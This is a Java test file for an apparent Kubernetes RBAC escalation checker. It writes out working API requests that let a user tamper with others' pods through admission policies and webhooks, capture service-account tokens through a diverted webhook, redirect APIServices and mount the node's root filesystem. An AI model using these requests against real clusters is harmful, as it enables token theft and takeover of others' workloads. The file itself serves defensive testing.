// SPDX-License-Identifier: Apache-2.0
package dev.kubeuser.rbac.escalation;

import static dev.kubeuser.assertion.KubeAssertions.assertThat;
import static dev.kubeuser.kinds.Kind.K3S;
import static org.assertj.core.api.Assertions.assertThat;

import com.google.gson.JsonElement;
import com.google.gson.JsonObject;
import com.google.gson.JsonParser;
import dev.kubeuser.KubeAdmin;
import dev.kubeuser.KubeManifests;
import dev.kubeuser.KubeUser;
import dev.kubeuser.access.KubeAccess;
import dev.kubeuser.cluster.Cluster;
import dev.kubeuser.kinds.RunsOn;
import dev.kubeuser.rbac.ServerFeature;
import dev.kubeuser.testkit.Patch;
import dev.kubeuser.testkit.VersionUnderTest;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.Optional;
import okhttp3.tls.HeldCertificate;
import org.awaitility.Awaitility;
import org.awaitility.core.ConditionFactory;
import org.junit.jupiter.api.Test;

/** Who gets between others and the API server, or into their pods: gone on a real API server, which has no kubelet. */
@KubeManifests("classpath:escalation/diversions.yaml")
class WalkedDiversionTest {

    private static final String BECAUSE = "the API server has to reach a server on the test's loopback";
    private static final Walk WALK = new Walk("classpath:escalation/diversions.yaml", "ClusterRole diversions-goal");
    private static final String ADMISSION = "/apis/admissionregistration.k8s.io/v1/";
    private static final String NAMESPACE = "/api/v1/namespaces/walked-diversions/";
    private static final String SELECTOR = """
            {"matchLabels": {"kubernetes.io/metadata.name": "walked-diversions"}}""";

    @KubeAdmin
    private KubeAccess admin;

    private static ConditionFactory eventually() {
        return Awaitility.await().atMost(Duration.ofSeconds(30));
    }

    private static String pod(String name, String volumes) {
        return """
                {"metadata": {"name": "%s"},
                 "spec": {"serviceAccountName": "robot", "containers": [{"name": "c", "image": "i"}]%s}}""".formatted(name, volumes);
    }

    @Test
    void a_policy_changes_the_pods_of_others(@KubeUser("injector") KubeAccess user, Cluster cluster) {
        VersionUnderTest.assumeHas(cluster, ServerFeature.MUTATING_ADMISSION_POLICIES);
        assertThat(WALK.way(user, Certainty.LIKELY)).containsExactly(Technique.MUTATING_ADMISSION);
        try {
            assertThat(user.request("POST", ADMISSION + "mutatingadmissionpolicies", """
                    {"metadata": {"name": "walked"}, "spec": {
                      "reinvocationPolicy": "Never",
                      "matchConstraints": {"namespaceSelector": %s, "resourceRules": [
                        {"apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"], "operations": ["CREATE"]}]},
                      "mutations": [{"patchType": "JSONPatch", "jsonPatch": {"expression":
                        "[JSONPatch{op: 'replace', path: '/spec/containers/0/image', value: 'of-the-policy'}]"}}]}}""".formatted(SELECTOR)))
                    .hasStatus(201);
            assertThat(user.request(
                            "POST",
                            ADMISSION + "mutatingadmissionpolicybindings",
                            "{\"metadata\": {\"name\": \"walked\"}, \"spec\": {\"policyName\": \"walked\"}}"))
                    .hasStatus(201);
            awaitImage("of-the-policy");
        } finally {
            admin.request("DELETE", ADMISSION + "mutatingadmissionpolicybindings/walked", null);
            admin.request("DELETE", ADMISSION + "mutatingadmissionpolicies/walked", null);
        }
    }

    /** Two tests change the pods of the namespace, each to an image of its own. */
    private void awaitImage(String image) {
        eventually()
                .untilAsserted(() -> assertThat(admin.request("POST", NAMESPACE + "pods?dryRun=All", pod("victim", "")))
                        .hasBodyContaining(image));
    }

    private static String allow(String review) {
        return """
                {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
                 "response": {"uid": %s, "allowed": true}}""".formatted(request(review).get("uid"));
    }

    private static JsonObject request(String review) {
        return JsonParser.parseString(review).getAsJsonObject().getAsJsonObject("request");
    }

    /** The controller that fills a Secret with a token is one of the others. */
    @RunsOn(except = K3S, because = BECAUSE)
    @Test
    void a_webhook_is_sent_the_Secrets_of_others(@KubeUser("listener") KubeAccess user, Cluster cluster)
            throws IOException {
        assertThat(WALK.way(user, Certainty.LIKELY)).isEmpty();
        assertThat(WALK.way(user, Certainty.DEPENDS)).containsExactly(Technique.VALIDATING_WEBHOOK);
        try (KubeAccess robot = Walk.with(cluster, overheard(user))) {
            assertThat(Walk.whoIs(robot)).contains("system:serviceaccount:walked-diversions:robot");
        }
    }

    private String overheard(KubeAccess user) throws IOException {
        try (DivertedServer server = new DivertedServer(WalkedDiversionTest::allow)) {
            assertThat(user.request("POST", ADMISSION + "validatingwebhookconfigurations", """
                    {"metadata": {"name": "walked"}, "webhooks": [{"name": "walked.example.test",
                      "clientConfig": %s, "namespaceSelector": %s, "sideEffects": "None", "failurePolicy": "Ignore",
                      "admissionReviewVersions": ["v1"], "rules": [{"apiGroups": [""], "apiVersions": ["v1"],
                        "resources": ["secrets"], "operations": ["CREATE", "UPDATE"]}]}]}""".formatted(
                                    server.clientConfig(), SELECTOR)))
                    .hasStatus(201);
            eventually().until(() -> {
                makeTokenSecret();
                return sent(server).isPresent();
            });
            return sent(server).orElseThrow();
        } finally {
            admin.request("DELETE", ADMISSION + "validatingwebhookconfigurations/walked", null);
        }
    }

    private void makeTokenSecret() {
        admin.request("POST", NAMESPACE + "secrets", """
                        {"metadata": {"generateName": "token-",
                          "annotations": {"kubernetes.io/service-account.name": "robot"}},
                         "type": "kubernetes.io/service-account-token"}""");
    }

    private static Optional<String> sent(DivertedServer server) {
        return server.received().stream()
                .map(body -> request(body.replaceFirst("^[^{]*", "")))
                .map(request -> request.getAsJsonObject("object").getAsJsonObject("data"))
                .filter(data -> data != null && data.has("token"))
                .map(data -> decoded(data, "token"))
                .findFirst();
    }

    private static final String HOOKS = "/api/v1/namespaces/walked-hooks/";

    private static String inject(String review) {
        String patch = "[{\"op\": \"replace\", \"path\": \"/spec/containers/0/image\", \"value\": \"of-the-webhook\"}]";
        return allow(review)
                .replace(
                        "\"allowed\": true",
                        "\"allowed\": true, \"patchType\": \"JSONPatch\", \"patch\": \"" + encoded(patch) + "\"");
    }

    private static String encoded(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private void thereIsCertificate(HeldCertificate certificate) {
        assertThat(admin.request("POST", HOOKS + "secrets", """
                {"metadata": {"name": "hooks-tls"}, "type": "kubernetes.io/tls", "stringData": {
                  "tls.crt": "%s", "tls.key": "%s"}}""".formatted(
                                certificate.certificatePem().replace("\n", "\\n"),
                                certificate.privateKeyPkcs8Pem().replace("\n", "\\n"))))
                .hasStatus(201);
    }

    private void thereIsWebhook(HeldCertificate certificate, int port) {
        assertThat(admin.request("POST", HOOKS + "services", """
                {"metadata": {"name": "hooks"}, "spec": {"selector": {"app": "hooks"}, "ports": [{"port": %d}]}}""".formatted(port)))
                .hasStatus(201);
        assertThat(admin.request("POST", ADMISSION + "mutatingwebhookconfigurations", """
                {"metadata": {"name": "walked-hooks"}, "webhooks": [{"name": "hooks.example.test",
                  "clientConfig": {"caBundle": "%s",
                    "service": {"namespace": "walked-hooks", "name": "hooks", "port": %d}},
                  "namespaceSelector": %s, "sideEffects": "None", "failurePolicy": "Ignore", "timeoutSeconds": 1,
                  "admissionReviewVersions": ["v1"], "rules": [{"apiGroups": [""], "apiVersions": ["v1"],
                    "resources": ["pods"], "operations": ["CREATE"]}]}]}""".formatted(
                                encoded(certificate.certificatePem()), port, SELECTOR)))
                .hasStatus(201);
    }

    private static HeldCertificate readBy(KubeAccess user) {
        JsonObject data = Walk.json(user.get(HOOKS + "secrets/hooks-tls")).getAsJsonObject("data");
        return HeldCertificate.decode(decoded(data, "tls.crt") + decoded(data, "tls.key"));
    }

    private static String decoded(JsonObject data, String key) {
        return new String(Base64.getDecoder().decode(data.get(key).getAsString()), StandardCharsets.UTF_8);
    }

    /** On a port that a test may listen on. An ExternalName needs no kube-proxy, as EndpointSlices do. */
    @RunsOn(except = K3S, because = BECAUSE)
    @Test
    void who_has_its_Service_and_certificate_answers_for_a_webhook(@KubeUser("answerer") KubeAccess user)
            throws IOException {
        assertThat(WALK.way(user, Certainty.LIKELY)).isEmpty();
        assertThat(WALK.way(user, Certainty.DEPENDS)).containsExactly(Technique.WEBHOOK_SERVICE);
        HeldCertificate certificate = DivertedServer.certificateFor("hooks.walked-hooks.svc");
        thereIsCertificate(certificate);
        try (DivertedServer server = new DivertedServer(readBy(user), WalkedDiversionTest::inject)) {
            thereIsWebhook(certificate, server.port());
            assertThat(Patch.merge(user, HOOKS + "services/hooks", """
                    {"spec": {"type": "ExternalName", "externalName": "localhost"}}""")).isOk();
            awaitImage("of-the-webhook");
            assertThat(server.received()).isNotEmpty();
        } finally {
            admin.request("DELETE", ADMISSION + "mutatingwebhookconfigurations/walked-hooks", null);
        }
    }

    private static String convert(String review) {
        JsonObject request = request(review);
        for (JsonElement object : request.getAsJsonArray("objects")) {
            object.getAsJsonObject().add("apiVersion", request.get("desiredAPIVersion"));
            object.getAsJsonObject().addProperty("told", "by the converter");
        }
        return """
                {"apiVersion": "apiextensions.k8s.io/v1", "kind": "ConversionReview", "response":
                  {"uid": %s, "result": {"status": "Success"}, "convertedObjects": %s}}""".formatted(request.get("uid"), request.get("objects"));
    }

    @RunsOn(except = K3S, because = BECAUSE)
    @Test
    void a_conversion_changes_the_custom_resources_of_others(@KubeUser("converter") KubeAccess user)
            throws IOException {
        assertThat(WALK.way(user, Certainty.DEPENDS)).containsExactly(Technique.CONVERSION_WEBHOOK);
        String things = "/apis/diversions.example.test/v2/namespaces/walked-diversions/things";
        eventually()
                .untilAsserted(
                        () -> assertThat(admin.request("POST", things, """
                        {"apiVersion": "diversions.example.test/v2", "kind": "Thing", "metadata": {"name": "one"},
                         "told": "by the administrator"}""")).hasStatus(201));
        try (DivertedServer server = new DivertedServer(WalkedDiversionTest::convert)) {
            assertThat(Patch.merge(
                            user,
                            "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/things.diversions.example.test",
                            """
                            {"spec": {"conversion": {"strategy": "Webhook", "webhook":
                              {"clientConfig": %s, "conversionReviewVersions": ["v1"]}}}}""".formatted(server.clientConfig())))
                    .isOk();
            eventually()
                    .untilAsserted(() -> assertThat(admin.get(things.replace("v2", "v1") + "/one"))
                            .hasBodyContaining("by the converter"));
            assertThat(server.received()).anyMatch(body -> body.contains("by the administrator"));
        }
    }

    @RunsOn(except = K3S, because = BECAUSE)
    @Test
    void an_APIService_answers_others(@KubeUser("server") KubeAccess user) throws IOException {
        assertThat(WALK.way(user, Certainty.DEPENDS)).containsExactly(Technique.API_SERVICE);
        String name = "v1.walked.example.test";
        try (DivertedServer server = new DivertedServer(unused -> "{\"told\": \"by the server\"}")) {
            assertThat(user.request("POST", NAMESPACE + "services", """
                    {"metadata": {"name": "diverted"}, "spec": {"type": "ExternalName", "externalName": "localhost"}}""")).hasStatus(201);
            assertThat(user.request(
                            "POST", "/apis/apiregistration.k8s.io/v1/apiservices", """
                    {"metadata": {"name": "%s"}, "spec": {"group": "walked.example.test", "version": "v1",
                      "groupPriorityMinimum": 1, "versionPriority": 1, "insecureSkipTLSVerify": true,
                      "service": {"namespace": "walked-diversions", "name": "diverted", "port": %d}}}""".formatted(name, server.port())))
                    .hasStatus(201);
            eventually()
                    .untilAsserted(() -> assertThat(admin.get("/apis/walked.example.test/v1/things"))
                            .hasBodyContaining("by the server"));
            assertThat(server.received()).anyMatch(body -> body.contains("/v1/things of " + admin.name()));
        } finally {
            admin.request("DELETE", "/apis/apiregistration.k8s.io/v1/apiservices/" + name, null);
        }
    }

    /** Pod Security lets the claim in, behind which is the node's file system. */
    @Test
    void a_volume_mounts_the_node(@KubeUser("mounter") KubeAccess user) {
        assertThat(WALK.way(user, Certainty.LIKELY, Technique.WORKLOAD)).containsExactly(Technique.HOST_VOLUME);
        assertThat(user.request("POST", "/api/v1/persistentvolumes?dryRun=All", """
                {"metadata": {"name": "walked"}, "spec": {"capacity": {"storage": "1Gi"},
                  "accessModes": ["ReadWriteOnce"], "storageClassName": "walked", "hostPath": {"path": "/"}}}"""))
                .hasStatus(201);
        assertThat(user.request("POST", NAMESPACE + "pods?dryRun=All", pod("mounter", """
                , "volumes": [{"name": "node", "ephemeral": {"volumeClaimTemplate": {"spec": {
                  "accessModes": ["ReadWriteOnce"], "storageClassName": "walked",
                  "resources": {"requests": {"storage": "1Gi"}}}}}}]""")))
                .hasStatus(201);
        assertThat(user.request("POST", NAMESPACE + "pods?dryRun=All", pod("mounter", """
                , "volumes": [{"name": "node", "hostPath": {"path": "/"}}]""")))
                .isForbidden();
    }

    @Test
    void a_pod_that_is_there_gets_another_image_or_container(
            @KubeUser("image-changer") KubeAccess changer, @KubeUser("container-adder") KubeAccess adder) {
        assertThat(WALK.way(changer, Certainty.LIKELY)).containsExactly(Technique.POD_ACCESS);
        assertThat(WALK.way(adder, Certainty.LIKELY)).containsExactly(Technique.POD_ACCESS);
        assertThat(admin.request("POST", NAMESPACE + "pods", pod("entered", "")))
                .hasStatus(201);
        assertThat(Patch.strategic(
                        changer,
                        NAMESPACE + "pods/entered",
                        "{\"spec\": {\"containers\": [{\"name\": \"c\", \"image\": \"another\"}]}}"))
                .isOk();
        assertThat(Patch.strategic(
                        adder,
                        NAMESPACE + "pods/entered/ephemeralcontainers",
                        "{\"spec\": {\"ephemeralContainers\": [{\"name\": \"added\", \"image\": \"another\"}]}}"))
                .isOk();
        assertThat(admin.get(NAMESPACE + "pods/entered").body()).contains("\"another\"", "\"added\"");
    }
}
